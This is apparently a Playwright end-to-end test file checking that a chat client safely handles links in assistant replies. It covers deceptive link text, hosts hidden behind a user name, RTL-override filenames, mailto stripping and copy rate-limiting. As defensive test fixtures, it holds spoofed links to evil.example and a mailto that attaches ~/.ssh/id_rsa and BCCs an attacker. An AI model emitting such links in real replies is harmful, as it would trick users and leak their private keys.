import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/test';

const reply = (page: Page) => page.locator('.message--assistant').last();
const OPEN = 1;

async function replyWith(page: Page, server: { next(b: unknown): void }, markdown: string) {
  server.next({ kind: 'stream', chunks: [markdown] });
  const composer = page.getByRole('textbox', { name: 'Message' });
  await composer.fill('Links please');
  await composer.press('Enter');
  await expect(reply(page)).toHaveAttribute('data-status', 'done');
}

test('a link whose text names another host opens only after main’s dialog, which names the real host', async ({
  app,
}) => {
  await replyWith(app.page, app.server, 'Sign in at [modelslab.com/dashboard](https://evil.example/login).');
  const link = reply(app.page).getByRole('link', { name: 'modelslab.com/dashboard' });
  await link.click();
  await expect.poll(() => app.web!.asked.length).toBe(1);
  expect(app.web!.asked[0]).toMatchObject({ message: 'Open evil.example?', buttons: ['Cancel', 'Open evil.example'] });
  expect(app.web!.asked[0]!.detail).toContain('names modelslab.com');
  expect(app.opened).toEqual([]);
  app.web!.answers.push(OPEN);
  await link.click();
  await expect.poll(() => app.opened).toEqual(['https://evil.example/login']);
});

test('a link that hides its host behind a user name is refused, and the window says so', async ({ app }) => {
  await replyWith(app.page, app.server, 'Your [modelslab.com invoice](https://modelslab.com@evil.example/pay).');
  await reply(app.page).getByRole('link', { name: 'modelslab.com invoice' }).click();
  await expect(app.page.getByRole('status').filter({ hasText: 'That link was not opened' })).toContainText(
    'evil.example',
  );
  await app.page.screenshot({ path: 'e2e/output/link-refused.png' });
  expect(app.opened).toEqual([]);
  expect(app.web!.asked).toEqual([]);
});

test('link text loses its invisible and direction-changing characters', async ({ app }) => {
  await replyWith(
    app.page,
    app.server,
    '[invoice\u202Efdp.exe](https://files.example/invoice.exe) and [model\u200Bslab.com](https://modelslab.com/)',
  );
  const links = reply(app.page).locator('.message__content a');
  await expect(links).toHaveText(['invoicefdp.exe', 'modelslab.com']);
  await links.nth(1).click();
  await expect.poll(() => app.opened).toEqual(['https://modelslab.com/']);
  await links.nth(0).click();
  await expect.poll(() => app.web!.asked.length).toBe(1);
  expect(app.web!.asked[0]!.message).toBe('Open files.example?');
});

test('a mailto link keeps only its subject and body', async ({ app }) => {
  await replyWith(
    app.page,
    app.server,
    '[write to us](mailto:help@example.com?subject=Hi&attach=/home/me/.ssh/id_rsa&bcc=spy@evil.example&body=Thanks)',
  );
  await reply(app.page).getByRole('link', { name: 'write to us' }).click();
  await expect.poll(() => app.opened).toEqual(['mailto:help@example.com?subject=Hi&body=Thanks']);
});

test('copying faster than a person can is refused by main, with a notice', async ({ app }) => {
  await replyWith(app.page, app.server, '```txt\nsome code\n```');
  const copy = reply(app.page).getByRole('button', { name: 'Copy txt code' });
  // Ten clicks within a moment, as a script in the window could make them.
  await copy.evaluate((button: HTMLElement) => {
    for (let i = 0; i < 10; i++) button.click();
  });
  await expect(app.page.getByRole('status').filter({ hasText: 'Too many at once' })).toBeVisible();
  expect(app.copied.length).toBeLessThanOrEqual(4);
  expect(app.copied.length).toBeGreaterThan(0);
});
